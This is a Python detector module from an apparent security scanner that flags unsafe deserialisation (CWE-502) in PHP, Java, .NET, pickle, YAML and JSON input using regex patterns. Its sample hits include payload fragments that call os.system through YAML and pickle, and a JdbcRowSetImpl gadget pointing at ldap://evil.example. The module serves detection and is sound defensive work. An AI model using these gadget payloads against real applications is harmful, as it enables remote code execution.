"""Unsafe deserialisation: a packed object that would be made, and run, where the application unpacks it.

CWE-502. Sources: the PHP manual (serialize), the Java Object Serialization Specification (stream magic AC ED 00 05),
MS-NRBF (.NET
binary format), the Python documentation (pickle, PyYAML tags), Ruby's Psych tags.
"""

import re

from delicti.detect.contexts import ANYWHERE, CERTAIN, POSSIBLE, PROBABLE, STRONG, Context, Verdict

CLASS, TECHNIQUE, WEAKNESS = "deserialization", "T1190", "CWE-502"
ANCHORS = (
    r"[oc]:\+?\d{1,5}:\"",
    r"a:\d{1,5}:\{",
    r"ro0ab|aced0005|kztaau|cs7qaf|\xac\xed\x00\x05",
    r"aaeaaad/{3}|/wey[a-z0-9+/]{2,8}aaqaaap////",
    r"<dynamic-proxy>|<(?:object|void)\s+(?:class|method)\s*=",
    r"gasv|gaJ|gan9|gaw|gar9|\x80[\x02-\x05]|\bc(?:os|posix|nt|builtins|__builtin__|subprocess)\n",
    r"!!(?:python|javax?|ruby|com\.|org\.|sun\.)|!ruby/|!python/|tag:yaml\.org",
    (
        r"objectdataprovider|\$type\"|\"@type\"|\"@class\"|typeconfusedelegate|losformatter|windowsidentity|"
        r"\[\s*\"(?:org|com|javax)\."
    ),
    r"cos\\nsystem|csubprocess\\n|cposix\\n",
)
CONTEXTS = ANYWHERE
HITS = (
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0",
    "!!python/object/apply:os.system ['id']",
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}',
    "cos\nsystem\n(S'id'\ntR.",
    "--- !ruby/object:Gem::Installer",
)
LOOKALIKES = (
    "a:2:{i:0;i:1;}",
    '{"@type":"WebSite"}',
    "O: 8 hours",
    "yaml !!binary",
    "pickle recipe",
    '{"@type":"Product","name":"x"}',
)

_PHP = re.compile(r"(?:^|[;{\s\"'=|])(?P<kind>[OC]):\+?\d{1,5}:\\?\"(?P<name>[\w\\]{1,120})\\?\":\d{1,5}:\{")
_PHP_PART = re.compile(r"(?:^|[;{=\s])a:\d{1,4}:\{(?:[isb]:\d+(?::\"[^\"]{0,60}\")?;){1,3}.{0,200}O:\d+:\"", re.DOTALL)
_JAVA = re.compile(
    r"(?:^|[^A-Za-z0-9+/])(?:rO0AB[A-Za-z0-9+/_=-]*)|\bKztAAU|\bCs7QAF|aced0005[0-9a-f]*|\xac\xed\x00\x05|"
    r"\udcac\udced\0\x05"
)
_NET = re.compile(
    r"AAEAAAD/{3,5}[A-Za-z0-9+/=]*|/wEy[A-Za-z0-9+/]{2,8}AAQAAAP////8B[A-Za-z0-9+/=]*|ObjectDataProvider|TypeConfuseDelegate|\"\$type\"\s*:\s*\"System\.[\w.]+"
)
_BEANS = re.compile(
    r"<dynamic-proxy>|<(?:object|void)\s+class\s*=\s*['\"](?:java|javax|com|org|sun)\.[^>]{1,200}", re.IGNORECASE
)
_PICKLE = re.compile(
    (
        r"(?:^|[^A-Za-z0-9+/])(?:gASV[A-Za-z0-9+/]{8,}={0,2}|gAJ[jcY][A-Za-z0-9+/]{8,}={0,2}|"
        r"gAN[jcY]?[A-Za-z0-9+/]{10,}={0,2})$|\bc(?:os|posix|nt|__builtin__|builtins|subprocess)(?:\n|\\n)(?:system|"
        r"popen|eval|exec|check_output|Popen|getattr|execfile|call)(?:\n|\\n)|[\x80\udc80][\x02-\x05].{0,40}(?:os|"
        r"posix|builtin|subprocess)"
    ),
    re.DOTALL,
)
_YAML = re.compile(
    r"!!(?:python/(?:object|name|module)[\w/:.]*|javax?\.[\w.]+|(?:com|org|sun)\.[\w.]+)|!ruby/(?:object|hash|"
    r"struct|regexp)[\w:/]*|!python/\w+|tag:yaml\.org,2002:python/\S+"
)
_JSON = re.compile(
    (
        r"[\"']@(?:type|class)[\"']\s*:\s*[\"'](?P<name>(?:com|org|java|javax|net|sun|ch|br|oracle|Lcom)\.[\w.$;]+|"
        r"\[?L?com\.[\w.$;]+)[\"']|\[\s*\"(?P<first>(?:org\.springframework|com\.sun|com\.mchange|javax\.naming|"
        r"org\.apache)\.[\w.$]+)\"\s*,"
    ),
    re.IGNORECASE,
)


def judge(value: str, context: Context) -> Verdict | None:  # noqa: ARG001
    """The marks of packed objects, with the class they name."""
    if match := _PHP.search(value):
        return Verdict(CERTAIN, match[0][:300], f"Unpacked, PHP would make an object of the class {match['name']}.")
    if match := _PHP_PART.search(value):
        return Verdict(STRONG, match[0][:300], "Unpacked, PHP would make the objects inside the list.")
    if match := _JAVA.search(value):
        return Verdict(
            STRONG if len(match[0]) > 12 else PROBABLE,
            match[0][:300],
            "Unpacked, Java would make the objects in the stream.",
        )
    if match := _NET.search(value):
        return Verdict(STRONG, match[0][:300], "Unpacked, .NET would make the objects in the stream.")
    if match := _BEANS.search(value):
        return Verdict(CERTAIN, match[0][:300], "Read as an object, Java would make what the document names.")
    if match := _YAML.search(value):
        return Verdict(STRONG, match[0][:300], "Read as YAML, the tag would make an object or call a function.")
    if match := _JSON.search(value):
        return Verdict(
            STRONG,
            match[0][:300],
            f"Read with types allowed, the document would make an object of {match['name'] or match['first']}.",
        )
    if match := _PICKLE.search(value):
        named = "\n" in match[0] or "\\n" in match[0] or "\x80" in match[0]
        return Verdict(
            CERTAIN if named else POSSIBLE if len(match[0]) < 24 else PROBABLE,
            match[0][:300],
            "Unpacked, Python would call what the stream names.",
        )
    return None
